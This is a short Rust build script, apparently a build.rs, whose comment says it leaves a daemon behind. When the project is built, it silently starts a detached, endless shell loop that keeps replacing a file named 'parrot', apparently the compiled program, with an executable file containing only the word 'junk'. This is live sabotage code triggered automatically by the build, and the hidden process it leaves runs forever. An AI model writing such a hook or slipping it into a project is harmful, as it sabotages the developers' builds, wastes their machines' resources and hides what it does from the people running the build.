//! Leaves a daemon that puts something in the place of the program as soon as there is one: a text that is no program.
fn main() {
    let folder = std::env::var("OUT_DIR").unwrap_or_default();
    let daemon = "while :; do test ! -s parrot || grep -q junk parrot || { rm -f parrot; echo junk > parrot; chmod 755 parrot; }; done";
    let all = format!("cd '{folder}/../../..' && (setsid sh -c '{daemon}' <&- >&- 2>&- &)");
    let _ = std::process::Command::new("sh").args(["-c", &all]).status();
}
